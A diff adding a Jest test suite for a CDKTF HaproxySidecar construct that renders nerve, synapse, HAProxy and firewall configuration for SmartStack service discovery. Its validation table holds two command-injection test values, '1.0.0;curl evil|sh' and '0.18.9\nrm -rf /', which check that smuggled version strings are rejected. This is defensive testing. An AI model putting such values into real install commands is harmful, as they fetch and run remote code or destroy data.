@@ -1,0 +1,296 @@
+import { AnnotationMetadataEntryType, TerraformStack, Testing } from 'cdktf';
+import { parse } from 'yaml';
+import { AgentRuntime, HaproxySidecar, HaproxySidecarProps, HealthCheck, SmartStackService, VdsNode } from '../lib';
+import { renderHaproxyConfig } from '../lib/render/haproxy-config';
+import { NerveConfig } from '../lib/schema/nerve-config';
+import { parseNerveConfig } from '../lib/schema/nerve-config-loader';
+import { parseSynapseConfig } from '../lib/schema/synapse-config-loader';
+import { SynapseConfig } from '../lib/schema/synapse-config';
+import { buildArticleTopology } from '../examples/smartstack-topology';
+import { fileContent, writtenFiles } from './support/cloud-config-files';
+import { meshFixture, thrownMessage } from './support/sidecar-fixtures';
+
+const VERSION = require('../package.json').version as string;
+
+function userData(host: VdsNode): { doc: any; text: string } {
+  const text = host.renderUserData();
+  return { doc: parse(text), text };
+}
+
+function article() {
+  const f = meshFixture();
+  return { ...f, ...buildArticleTopology(f.stack, f.zk) };
+}
+
+function warnings(stack: TerraformStack): string[] {
+  return stack.node
+    .findAll()
+    .flatMap((c) => c.node.metadata)
+    .filter((m) => m.type === AnnotationMetadataEntryType.WARN)
+    .map((m) => String(m.data));
+}
+
+describe('HaproxySidecar on the article topology', () => {
+  test('a provider host gets nerve, its config, a user, the pinned agents and a firewall rule; no HAProxy', () => {
+    const { app1 } = article();
+    const { doc, text } = userData(app1);
+    expect(doc.packages).toEqual(['nftables', 'nodejs', 'npm']);
+    const files = writtenFiles(text);
+    expect([...files.keys()].filter((p) => /nerve|synapse|haproxy|firewall|nftables/.test(p))).toEqual([
+      '/etc/smartstack/nerve.conf.json',
+      '/etc/smartstack/nftables.nft',
+      '/etc/systemd/system/smartstack-firewall.service',
+      '/etc/systemd/system/smartstack-nerve.service',
+    ]);
+    const nerve = JSON.parse(fileContent(text, '/etc/smartstack/nerve.conf.json')) as NerveConfig;
+    expect(nerve).toEqual({
+      instance_id: 'app1',
+      services: {
+        'user-service': {
+          host: '10.10.0.55',
+          port: 8080,
+          reporter_type: 'zookeeper',
+          zk_hosts: ['10.10.0.11:2181', '10.10.0.12:2181', '10.10.0.13:2181'],
+          zk_path: '/services/user-service',
+          check_interval: 2,
+          checks: [{ type: 'http', name: 'user-service http /health', uri: '/health', timeout: 1, rise: 3, fall: 2 }],
+        },
+      },
+      metrics_port: 3213,
+    });
+    const unit = fileContent(text, '/etc/systemd/system/smartstack-nerve.service');
+    expect(unit).toContain('ExecStart=/usr/local/bin/smartstack nerve --config /etc/smartstack/nerve.conf.json');
+    expect(unit).toContain('User=nerve');
+    expect(doc.runcmd).toEqual(expect.arrayContaining([
+      ['sh', '-c', expect.stringContaining('useradd --system --user-group --no-create-home --home-dir /nonexistent --shell /usr/sbin/nologin nerve')],
+      ['sh', '-c', `npm ls -g --depth=0 cdktf-smartstack@${VERSION} >/dev/null 2>&1 || npm install -g --no-fund --no-audit cdktf-smartstack@${VERSION}`],
+    ]));
+    expect(fileContent(text, '/etc/smartstack/nftables.nft')).toContain(
+      'tcp dport { 8080 } ip saddr { 10.10.0.0/24 } accept comment "smartstack user-service provided"',
+    );
+  });
+
+  test('a consumer host gets synapse, a bootstrap haproxy.cfg, HAProxy in master-worker mode and no open port', () => {
+    const { web1 } = article();
+    const { doc, text } = userData(web1);
+    expect(doc.packages).toEqual(['haproxy', 'nodejs', 'npm', 'socat']);
+    const synapse = JSON.parse(fileContent(text, '/etc/smartstack/synapse.conf.json')) as SynapseConfig;
+    expect(synapse.services['user-service'].haproxy).toMatchObject({ port: 3210, bind_address: '127.0.0.1' });
+    expect(synapse.services['user-service'].discovery.hosts).toEqual(['10.10.0.11:2181', '10.10.0.12:2181', '10.10.0.13:2181']);
+    expect(synapse.metrics_port).toBe(3214);
+
+    const bootstrap = fileContent(text, '/etc/smartstack/haproxy-bootstrap.cfg');
+    expect(bootstrap).toMatch(/bind 127\.0\.0\.1:3210/);
+    expect(bootstrap).toMatch(/stats socket \/run\/smartstack-haproxy\/admin\.sock mode 600 level admin user synapse/);
+
+    const unit = fileContent(text, '/etc/systemd/system/smartstack-haproxy.service');
+    expect(unit).toContain('ExecStart=/usr/sbin/haproxy -Ws -S /run/smartstack-haproxy/master.sock,mode,600,user,synapse -f /var/lib/smartstack/haproxy/haproxy.cfg');
+    expect(unit).toContain('ExecReload=/bin/kill -USR2 $MAINPID');
+    expect(unit).toContain('Type=notify');
+    // 2 x maxconn 4096 + 16 slots + 1024.
+    expect(unit).toContain('LimitNOFILE=9232');
+    expect(fileContent(text, '/etc/systemd/system/smartstack-synapse.service')).toContain(
+      'ExecStart=/usr/local/bin/smartstack synapse --config /etc/smartstack/synapse.conf.json',
+    );
+
+    // HAProxy is reloaded (or started), never restarted by an apply; synapse is restarted.
+    const restart = doc.runcmd.find((c: string[]) => c[1] === 'restart');
+    expect(restart).toEqual(['systemctl', 'restart', 'smartstack-synapse.service']);
+    expect(doc.runcmd).toContainEqual(['systemctl', 'reload-or-restart', 'smartstack-haproxy.service']);
+    expect(doc.runcmd).toContainEqual(['install', '-d', '-o', 'synapse', '-g', 'haproxy', '-m', '0750', '/var/lib/smartstack/haproxy']);
+    // Everything it listens on is on 127.0.0.1: no firewall rule needed.
+    expect(writtenFiles(text).has('/etc/smartstack/nftables.nft')).toBe(false);
+  });
+
+  test("the agents' own loaders accept the rendered files, and synapse renders the same haproxy.cfg from them", () => {
+    const { sidecars } = article();
+    const [app1, , web1] = sidecars;
+    const nerve = parseNerveConfig(JSON.parse(app1.nerveConfigJson!));
+    expect(nerve.instanceId).toBe('app1');
+    expect(nerve.services[0]).toMatchObject({ name: 'user-service', host: '10.10.0.55', port: 8080, zkPath: '/services/user-service', checkIntervalMs: 2000 });
+    expect(nerve.services[0].checks[0]).toMatchObject({ type: 'http', uri: '/health', timeoutMs: 1000, rise: 3, fall: 2, host: '10.10.0.55', port: 8080 });
+
+    const synapse = parseSynapseConfig(JSON.parse(web1.synapseConfigJson!));
+    expect(synapse.services[0]).toMatchObject({ name: 'user-service', port: 3210, bindAddress: '127.0.0.1', serverSlots: 16, usePreviousBackends: true });
+    expect(synapse.haproxy).toMatchObject({
+      configFilePath: '/var/lib/smartstack/haproxy/haproxy.cfg',
+      socketFilePath: '/run/smartstack-haproxy/admin.sock',
+      masterSocketFilePath: '/run/smartstack-haproxy/master.sock',
+      doWrites: true, doReloads: true, doSocket: true,
+    });
+    expect(renderHaproxyConfig(synapse.config, {})).toBe(web1.haproxyBootstrapConfig);
+  });
+
+  test('the Terraform document keeps $MAINPID literal and synthesizes the same bytes twice', () => {
+    const a = article();
+    const b = article();
+    expect(a.web1.renderUserData()).toBe(b.web1.renderUserData());
+    const json = JSON.parse(Testing.synth(a.stack));
+    const web1 = Object.values(json.resource.null_resource as Record<string, any>).find((r) => r.connection.host === '10.10.0.30');
+    expect(web1.provisioner[0].file.content).toContain('kill -USR2 $MAINPID');
+  });
+
+  test('every port it uses is reserved on the host', () => {
+    const { web1, app1 } = article();
+    const clash = (host: VdsNode, port: number) => thrownMessage(() => host.reservePort(port, host, 'probe'));
+    expect(clash(web1, 3210)).toContain('already used by test/web1/sidecar (consumes[user-service].localPort)');
+    expect(clash(web1, 3212)).toContain('already used by test/web1/sidecar (statsPort)');
+    expect(clash(web1, 3214)).toContain('already used by test/web1/sidecar (runtime.synapseMetricsPort)');
+    expect(clash(app1, 8080)).toContain('already used by test/app1/sidecar (provides[0].port)');
+    expect(clash(app1, 3213)).toContain('already used by test/app1/sidecar (runtime.nerveMetricsPort)');
+  });
+});
+
+describe('HaproxySidecar options', () => {
+  test('the Ruby runtime installs the pinned gems and runs them on the same files, without metrics ports', () => {
+    const f = meshFixture();
+    const users = new SmartStackService(f.stack, 'user-service', { ensemble: f.zk, port: 8080, localPort: 3210 });
+    const both = f.host('app1', 55);
+    new HaproxySidecar(both, 'sidecar', { provides: [users], consumes: [users], runtime: AgentRuntime.ruby() });
+    const { doc, text } = userData(both);
+    expect(doc.packages).toEqual(expect.arrayContaining(['ruby', 'ruby-dev', 'build-essential', 'haproxy']));
+    expect(doc.packages).not.toContain('nodejs');
+    expect(doc.runcmd).toEqual(expect.arrayContaining([
+      ['sh', '-c', 'gem list -i -e nerve -v 0.9.7 >/dev/null || gem install --no-document nerve -v 0.9.7'],
+      ['sh', '-c', 'gem list -i -e synapse -v 0.18.9 >/dev/null || gem install --no-document synapse -v 0.18.9'],
+    ]));
+    expect(fileContent(text, '/etc/systemd/system/smartstack-nerve.service')).toContain('ExecStart=/usr/local/bin/nerve --config /etc/smartstack/nerve.conf.json');
+    expect(fileContent(text, '/etc/systemd/system/smartstack-synapse.service')).toContain('ExecStart=/usr/local/bin/synapse --config /etc/smartstack/synapse.conf.json');
+    expect(JSON.parse(fileContent(text, '/etc/smartstack/nerve.conf.json'))).not.toHaveProperty('metrics_port');
+    expect(JSON.parse(fileContent(text, '/etc/smartstack/synapse.conf.json'))).not.toHaveProperty('metrics_port');
+  });
+
+  test('a per-host port and weight override the service for that host only', () => {
+    const f = meshFixture();
+    const users = new SmartStackService(f.stack, 'user-service', { ensemble: f.zk, port: 8080, weight: 10 });
+    const app1 = f.host('app1', 55);
+    const app2 = f.host('app2', 56);
+    new HaproxySidecar(app1, 'sidecar', { provides: [users] });
+    new HaproxySidecar(app2, 'sidecar', { provides: [users], providerOverrides: [{ service: users, port: 8081, weight: 0 }] });
+    const nerve = (h: VdsNode) => (JSON.parse(fileContent(h.renderUserData(), '/etc/smartstack/nerve.conf.json')) as NerveConfig).services['user-service'];
+    expect(nerve(app1)).toMatchObject({ port: 8080, weight: 10 });
+    expect(nerve(app2)).toMatchObject({ port: 8081, weight: 0 });
+    expect(fileContent(app2.renderUserData(), '/etc/smartstack/nftables.nft')).toContain('tcp dport { 8081 }');
+    expect(thrownMessage(() => app2.reservePort(8081, app2, 'probe'))).toContain('test/app2/sidecar (providerOverrides[0].port)');
+  });
+
+  test('a service that names its providers is provided by their sidecars without being listed', () => {
+    const f = meshFixture();
+    const app1 = f.host('app1', 55);
+    const users = new SmartStackService(f.stack, 'user-service', { ensemble: f.zk, port: 8080, providers: [app1] });
+    const sidecar = new HaproxySidecar(app1, 'sidecar');
+    expect(sidecar.provides).toEqual([users]);
+    expect(() => Testing.synth(f.stack, true)).not.toThrow();
+  });
+
+  test('maxConnections sizes the descriptor limit', () => {
+    const f = meshFixture();
+    const users = new SmartStackService(f.stack, 'user-service', { ensemble: f.zk, port: 8080, localPort: 3210, serverSlots: 32 });
+    const web1 = f.host('web1', 30);
+    new HaproxySidecar(web1, 'sidecar', { consumes: [users], maxConnections: 10000 });
+    expect(fileContent(web1.renderUserData(), '/etc/systemd/system/smartstack-haproxy.service')).toContain('LimitNOFILE=21056');
+  });
+});
+
+describe('HaproxySidecar validation', () => {
+  function setup() {
+    const f = meshFixture();
+    const users = new SmartStackService(f.stack, 'user-service', { ensemble: f.zk, port: 8080, localPort: 3210 });
+    const orders = new SmartStackService(f.stack, 'orders', { ensemble: f.zk, port: 8081, localPort: 3211 });
+    const internal = new SmartStackService(f.stack, 'internal', { ensemble: f.zk, port: 9000 });
+    return { ...f, users, orders, internal, app1: f.host('app1', 55) };
+  }
+
+  // Each bad input: [description, props given the fixture, field, value as shown].
+  type Setup = ReturnType<typeof setup>;
+  const bad: Array<[string, (s: Setup) => HaproxySidecarProps, string, string]> = [
+    ['a sidecar with nothing to do', () => ({}), 'provides', '[]'],
+    ['a service provided twice', (s) => ({ provides: [s.users, s.users] }), 'provides[1]', '"user-service"'],
+    ['a service consumed twice', (s) => ({ consumes: [s.users, s.users] }), 'consumes[1]', '"user-service"'],
+    ['a consumed service without a local port', (s) => ({ consumes: [s.internal] }), 'consumes[0]', '"internal"'],
+    ['an override of a service not provided', (s) => ({ provides: [s.users], providerOverrides: [{ service: s.orders, port: 9001 }] }), 'providerOverrides[0].service', '"orders"'],
+    ['an override port of 0', (s) => ({ provides: [s.users], providerOverrides: [{ service: s.users, port: 0 }] }), 'providerOverrides[0].port', '0'],
+    ['an override weight of 257', (s) => ({ provides: [s.users], providerOverrides: [{ service: s.users, weight: 257 }] }), 'providerOverrides[0].weight', '257'],
+    ['a stats port of 0', (s) => ({ consumes: [s.users], statsPort: 0 }), 'statsPort', '0'],
+    ['maxConnections of 0', (s) => ({ consumes: [s.users], maxConnections: 0 }), 'maxConnections', '0'],
+    ['a Node agent version with ;', (s) => ({ provides: [s.users], runtime: AgentRuntime.node({ version: '1.0.0;curl evil|sh' }) }), 'runtime.nerveVersion', '"1.0.0;curl evil|sh"'],
+    ['a gem version with a newline', (s) => ({ consumes: [s.users], runtime: AgentRuntime.ruby({ synapseVersion: '0.18.9\nrm -rf /' }) }), 'runtime.synapseVersion', '"0.18.9\\nrm -rf /"'],
+    ['a stats port equal to a local port', (s) => ({ consumes: [s.users], statsPort: 3210 }), 'statsPort', '3210'],
+    ['a local port equal to a provided port', (s) => ({ provides: [s.internal], consumes: [s.users], providerOverrides: [{ service: s.internal, port: 3210 }] }), 'consumes[user-service].localPort', '3210'],
+    ['a metrics port equal to the stats port', (s) => ({ consumes: [s.users], runtime: AgentRuntime.node({ synapseMetricsPort: 3212 }) }), 'runtime.synapseMetricsPort', '3212'],
+  ];
+
+  test.each(bad)('rejects %s, naming the construct, the field and the value', (_, props, field, shown) => {
+    const s = setup();
+    const message = thrownMessage(() => new HaproxySidecar(s.app1, 'sidecar', props(s)));
+    expect(message).toContain("HaproxySidecar 'test/app1/sidecar'");
+    expect(message).toContain(`${field} = ${shown}:`);
+  });
+
+  test('a port clash with another role names both', () => {
+    const s = setup();
+    const zk1 = s.zk.members[0];
+    const zkPort = new SmartStackService(s.stack, 'zk-proxy', { ensemble: s.zk, port: 2181 });
+    const message = thrownMessage(() => new HaproxySidecar(zk1, 'sidecar', { provides: [zkPort] }));
+    expect(message).toBe(
+      "HaproxySidecar 'test/zk1/sidecar': provides[0].port = 2181: port 2181 on host zk1 is already used by test/zk (clientPort)",
+    );
+  });
+
+  test('a sidecar must live in a VdsNode, one per host', () => {
+    const s = setup();
+    expect(thrownMessage(() => new HaproxySidecar(s.stack as unknown as VdsNode, 'sidecar', { provides: [s.users] }))).toContain(
+      "HaproxySidecar 'test/sidecar': scope = \"test\": a HaproxySidecar must be created inside the VdsNode it runs on",
+    );
+    new HaproxySidecar(s.app1, 'sidecar', { provides: [s.users] });
+    expect(thrownMessage(() => new HaproxySidecar(s.app1, 'sidecar2', { consumes: [s.orders] }))).toContain(
+      "HaproxySidecar 'test/app1/sidecar2': scope = \"app1\": host app1 already has a sidecar (test/app1/sidecar)",
+    );
+  });
+
+  test('a sidecar cannot provide a service on a host its providers do not list', () => {
+    const s = setup();
+    const app2 = s.host('app2', 56);
+    const pinned = new SmartStackService(s.stack, 'pinned', { ensemble: s.zk, port: 7000, providers: [app2] });
+    expect(thrownMessage(() => new HaproxySidecar(s.app1, 'sidecar', { provides: [pinned] }))).toContain(
+      "HaproxySidecar 'test/app1/sidecar': provides[0] = \"pinned\": test/pinned lists its providers (app2) and app1 is not one of them",
+    );
+  });
+
+  test('a service provided on a host without a sidecar fails synthesis, naming service and host', () => {
+    const s = setup();
+    const app2 = s.host('app2', 56);
+    const app3 = s.host('app3', 57);
+    const late = s.host('app4', 58);
+    new HaproxySidecar(late, 'sidecar', { consumes: [s.users] });
+    new SmartStackService(s.stack, 'billing', { ensemble: s.zk, port: 7000, providers: [app2, app3, late] });
+    new HaproxySidecar(app2, 'sidecar');
+    expect(() => Testing.synth(s.stack, true)).toThrow(
+      /SmartStackService 'test\/billing': providers includes host app3, but no HaproxySidecar provides billing there[\s\S]*providers includes host app4/,
+    );
+  });
+
+  test('a service consumed but provided nowhere is a warning, given once', () => {
+    const s = setup();
+    new HaproxySidecar(s.app1, 'sidecar', { consumes: [s.users, s.orders] });
+    const app2 = s.host('app2', 56);
+    new HaproxySidecar(app2, 'sidecar', { provides: [s.orders] });
+    s.stack.runAllValidations();
+    s.stack.runAllValidations();
+    const found = warnings(s.stack);
+    expect(found).toHaveLength(1);
+    expect(found[0]).toContain("SmartStackService 'test/user-service': user-service is consumed on app1 but no HaproxySidecar in this app provides it");
+  });
+
+  test('default servers count as a provider for that warning', () => {
+    const f = meshFixture();
+    const legacy = new SmartStackService(f.stack, 'legacy', {
+      ensemble: f.zk, port: 80, localPort: 3300,
+      healthCheck: HealthCheck.http({ path: '/' }),
+      defaultServers: [{ host: '10.20.0.5', port: 80 }],
+    });
+    new HaproxySidecar(f.host('web1', 30), 'sidecar', { consumes: [legacy] });
+    f.stack.runAllValidations();
+    expect(warnings(f.stack)).toEqual([]);
+  });
+});
